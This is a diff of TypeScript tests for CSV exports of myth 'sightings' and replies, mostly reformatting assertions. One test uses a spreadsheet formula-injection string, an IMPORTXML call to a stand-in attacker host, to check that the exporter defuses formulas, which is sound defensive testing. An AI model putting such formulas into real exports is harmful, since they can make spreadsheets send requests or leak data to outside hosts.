@@ -63,15 +63,42 @@ describe('sightingsCsv', () => {
     const text = sightingsCsv(history, london, { includeAuthors: false });
     expect(text.endsWith('\r\n')).toBe(true);
     const [header, ...rows] = readCsv(text);
-    expect(header).toEqual(['id', 'captured_at', 'captured_date', 'platform', 'text', 'matched_entry_ids', 'matched_entry_titles', 'decision', 'decided_at', 'captured_by']);
+    expect(header).toEqual([
+      'id',
+      'captured_at',
+      'captured_date',
+      'platform',
+      'text',
+      'matched_entry_ids',
+      'matched_entry_titles',
+      'decision',
+      'decided_at',
+      'captured_by',
+    ]);
     expect(rows).toHaveLength(60);
-    expect(rows[3]).toEqual([history.sightings[3]!.id, '2026-01-08T12:00:00.000Z', '2026-01-08', 'x', 'Post 3: they are all getting something for nothing', 'mixed-d; crime-a', 'Mixed myth D; Crime myth A', 'undecided', '', 'ben']);
+    expect(rows[3]).toEqual([
+      history.sightings[3]!.id,
+      '2026-01-08T12:00:00.000Z',
+      '2026-01-08',
+      'x',
+      'Post 3: they are all getting something for nothing',
+      'mixed-d; crime-a',
+      'Mixed myth D; Crime myth A',
+      'undecided',
+      '',
+      'ben',
+    ]);
   });
 
   it('reads back untrusted text cell for cell, with formulas defused', () => {
     const texts = ['commas, "quotes"\nand a new line', '=IMPORTXML("https://evil.example", "//a")', '@everyone look', 'plain'];
     const rows = readCsv(sightingsCsv(withText(...texts), london, { includeAuthors: false })).slice(1);
-    expect(rows.map((row) => row[4])).toEqual(['commas, "quotes"\nand a new line', `'=IMPORTXML("https://evil.example", "//a")`, "'@everyone look", 'plain']);
+    expect(rows.map((row) => row[4])).toEqual([
+      'commas, "quotes"\nand a new line',
+      `'=IMPORTXML("https://evil.example", "//a")`,
+      "'@everyone look",
+      'plain',
+    ]);
     expect(rows.every((row) => row.length === 10)).toBe(true);
   });
 
@@ -84,21 +111,66 @@ describe('sightingsCsv', () => {
     expect(sightingsCsv(history, london)).toBe(without);
   });
 
-  it.each([{}, { topic: 'crime' }, { member: 'amira' }, { from: '2026-02-01', to: '2026-02-28' }] as const)('selects what the figures count, for %j', (narrowing) => {
-    const filter = { ...london, ...narrowing };
-    const now = new Date('2026-03-06T00:00:00Z');
-    const totals = computeImpact(history, filter, now).totals;
-    expect(readCsv(sightingsCsv(history, filter)).length - 1).toBe(totals.sightings);
-    expect(readCsv(repliesCsv(history, filter)).length - 1).toBe(totals.replies);
-  });
+  it.each([{}, { topic: 'crime' }, { member: 'amira' }, { from: '2026-02-01', to: '2026-02-28' }] as const)(
+    'selects what the figures count, for %j',
+    (narrowing) => {
+      const filter = { ...london, ...narrowing };
+      const now = new Date('2026-03-06T00:00:00Z');
+      const totals = computeImpact(history, filter, now).totals;
+      expect(readCsv(sightingsCsv(history, filter)).length - 1).toBe(totals.sightings);
+      expect(readCsv(repliesCsv(history, filter)).length - 1).toBe(totals.replies);
+    },
+  );
 });
 
 describe('repliesCsv', () => {
   it('writes each reply with its entry, time to reply, audiences and spokesperson', () => {
     const [header, first, second] = readCsv(repliesCsv(history, london));
-    expect(header).toEqual(['id', 'posted_at', 'posted_date', 'entry_ids', 'entry_titles', 'sighting_id', 'minutes_to_reply', 'post_platform', 'audiences', 'spokesperson', 'channel', 'language', 'posted_by']);
-    expect(first).toEqual([history.replies[0]!.id, '2026-01-05T12:01:00.000Z', '2026-01-05', 'crime-a', 'Crime myth A', history.sightings[0]!.id, '1', 'x', 'Local workers', 'Council leader', 'x', 'en', 'amira']);
-    expect(second).toEqual([history.replies[1]!.id, '2026-01-08T12:02:00.000Z', '2026-01-08', 'mixed-d', 'Mixed myth D', history.sightings[3]!.id, '2', 'x', 'Parents', '', 'facebook', 'en', 'ben']);
+    expect(header).toEqual([
+      'id',
+      'posted_at',
+      'posted_date',
+      'entry_ids',
+      'entry_titles',
+      'sighting_id',
+      'minutes_to_reply',
+      'post_platform',
+      'audiences',
+      'spokesperson',
+      'channel',
+      'language',
+      'posted_by',
+    ]);
+    expect(first).toEqual([
+      history.replies[0]!.id,
+      '2026-01-05T12:01:00.000Z',
+      '2026-01-05',
+      'crime-a',
+      'Crime myth A',
+      history.sightings[0]!.id,
+      '1',
+      'x',
+      'Local workers',
+      'Council leader',
+      'x',
+      'en',
+      'amira',
+    ]);
+    expect(second).toEqual([
+      history.replies[1]!.id,
+      '2026-01-08T12:02:00.000Z',
+      '2026-01-08',
+      'mixed-d',
+      'Mixed myth D',
+      history.sightings[3]!.id,
+      '2',
+      'x',
+      'Parents',
+      '',
+      'facebook',
+      'en',
+      'ben',
+    ]);
   });
 
   it('adds the answered post’s author only when asked', () => {
